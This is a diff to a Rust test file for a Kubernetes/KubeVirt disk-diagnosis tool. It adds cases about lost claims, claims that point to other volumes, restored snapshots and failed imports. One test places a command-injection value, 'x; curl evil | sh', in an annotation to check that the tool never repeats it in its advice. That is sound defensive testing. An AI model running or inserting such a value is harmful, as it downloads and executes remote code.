@@ -46,8 +46,8 @@ fn imports() {
     → correct the file, then make the disk anew, which is empty so far: kubectl wukong delete web --delete-data system, then apply
 ");
     case(World::starting(), |w| {
-        w.filling(importing("ImportInProgress", 3, "Error", "Virtual image size 42949672960 is larger than the reported available storage 21474836480"));
-    }, "  ✗ disk system: the image is larger than the disk: Virtual image size 42949672960 is larger than the reported available storage 21474836480
+        w.filling(importing("ImportInProgress", 3, "Error", "DataVolume too small to contain image"));
+    }, "  ✗ disk system: the image is larger than the disk: DataVolume too small to contain image
     → raise its `size`; correct the file, then make the disk anew, which is empty so far: kubectl wukong delete web --delete-data system, then apply
 ");
     case(World::starting(), |w| {
@@ -158,9 +158,10 @@ fn claims() {
         World::starting(),
         |w| {
             w.edit("PersistentVolumeClaim", "web-data", "/status/phase", json!("Lost"));
+            w.remove("PersistentVolume", "pv-web-data");
         },
-        "  ✗ disk data: claim web-data is Lost: volume pv-web-data is gone, and the data with it
-    → restore the volume under its old name, or the disk from a backup
+        "  ✗ disk data: claim web-data is Lost: volume pv-web-data is gone from the cluster
+    → make the volume again under its old name (the storage may still have the data), or restore a backup
 ",
     );
     case(World::starting(), |w| {
@@ -339,4 +340,104 @@ fn growth() {
     → kubectl describe pvc -n prod web-data
 ",
     );
+}
+
+#[test]
+fn what_a_review_found() {
+    // CDI calls a DataVolume failed whose claim is lost, filled as it was: nobody may be told to delete it.
+    case(
+        World::starting(),
+        |w| {
+            w.edit("PersistentVolumeClaim", "web-system", "/status/phase", json!("Lost"));
+            w.edit("PersistentVolume", "pv-web-system", "/spec/claimRef/name", json!("other"));
+            w.filling(json!({"phase": "Failed", "progress": "100.0%", "restartCount": 0}));
+        },
+        "  ✗ disk system: claim web-system is Lost: volume pv-web-system belongs to claim prod/other
+    → delete neither; find out which of the two claims the data belongs to
+",
+    );
+    // The volume of another claim is not to be taken from it.
+    case(
+        World::starting(),
+        |w| {
+            w.edit("PersistentVolumeClaim", "web-data", "/status", json!({"phase": "Pending"}));
+            w.edit("PersistentVolume", "pv-web-data", "/spec/claimRef/name", json!("other"));
+        },
+        "  ✗ disk data: volume pv-web-data, which claim web-data wants, belongs to claim prod/other
+    → let the claim name another volume; one volume is one claim's
+",
+    );
+    // A snapshot was restored: the disk has another claim than the file.
+    case(
+        World::running(),
+        |w| {
+            w.edit(
+                "VirtualMachine",
+                "web-vm",
+                "/spec/template/spec/volumes/1/persistentVolumeClaim/claimName",
+                json!("restored"),
+            );
+            w.edit(
+                "VirtualMachineInstance",
+                "web-vm",
+                "/spec/volumes/1/persistentVolumeClaim/claimName",
+                json!("restored"),
+            );
+            w.edit("PersistentVolumeClaim", "web-data", "/metadata/name", json!("restored"));
+        },
+        "  ✗ disk data: it lies on claim restored now, the file knows claim web-data
+    → set `claimName: restored` in the file before it is applied again, or it goes back to the old one
+",
+    );
+    // A failed import is told also where the class waits for a pod and the machine is stopped.
+    case(
+        World::stopped(),
+        |w| {
+            w.edit("StorageClass", "fast", "/volumeBindingMode", json!("WaitForFirstConsumer"));
+            w.filling(importing("Failed", 0, "Error", "unsupported format"));
+        },
+        "  ✗ disk system: it could not be filled: unsupported format
+    → correct the file, then make the disk anew, which is empty so far: kubectl wukong delete web --delete-data system, then apply
+",
+    );
+    // Two machines may have one CD in their drives.
+    let mut world = World::running();
+    world.edit(
+        "VirtualMachine",
+        "web-vm",
+        "/spec/template/spec/domain/devices/disks/1",
+        json!({"name": "data", "cdrom": {}}),
+    );
+    world.edit(
+        "VirtualMachineInstance",
+        "web-vm",
+        "/spec/domain",
+        json!({"devices": {"disks": [{"name": "data", "cdrom": {}}]}}),
+    );
+    world.add(json!({
+        "apiVersion": "kubevirt.io/v1", "kind": "VirtualMachine", "metadata": {"name": "other", "namespace": "prod"},
+        "spec": {"template": {"spec": {
+            "domain": {"devices": {"disks": [{"name": "x", "cdrom": {}}]}},
+            "volumes": [{"name": "x", "persistentVolumeClaim": {"claimName": "web-data"}}],
+        }}},
+    }));
+    assert_eq!(told(&world.status()), "");
+    // A name that a stranger wrote is not put into a command.
+    let mut world = World::starting();
+    world.filling(importing("ImportInProgress", 1, "Error", "reset"));
+    world.edit(
+        "PersistentVolumeClaim",
+        "web-system",
+        "/metadata/annotations",
+        json!({
+            "cdi.kubevirt.io/storage.import.importPodName": "x; curl evil | sh",
+        }),
+    );
+    assert!(!told(&world.status()).contains("curl"));
+    // Machines that may not be read are not missing.
+    let mut world = World::running();
+    world.remove("VirtualMachine", "web-vm");
+    world.1.push(Unread { kind: "VirtualMachine".into(), namespace: None, reason: "forbidden".into() });
+    let status = world.status();
+    assert!(status.causes.is_empty() && !status.is_healthy() && status.is_unknown());
 }
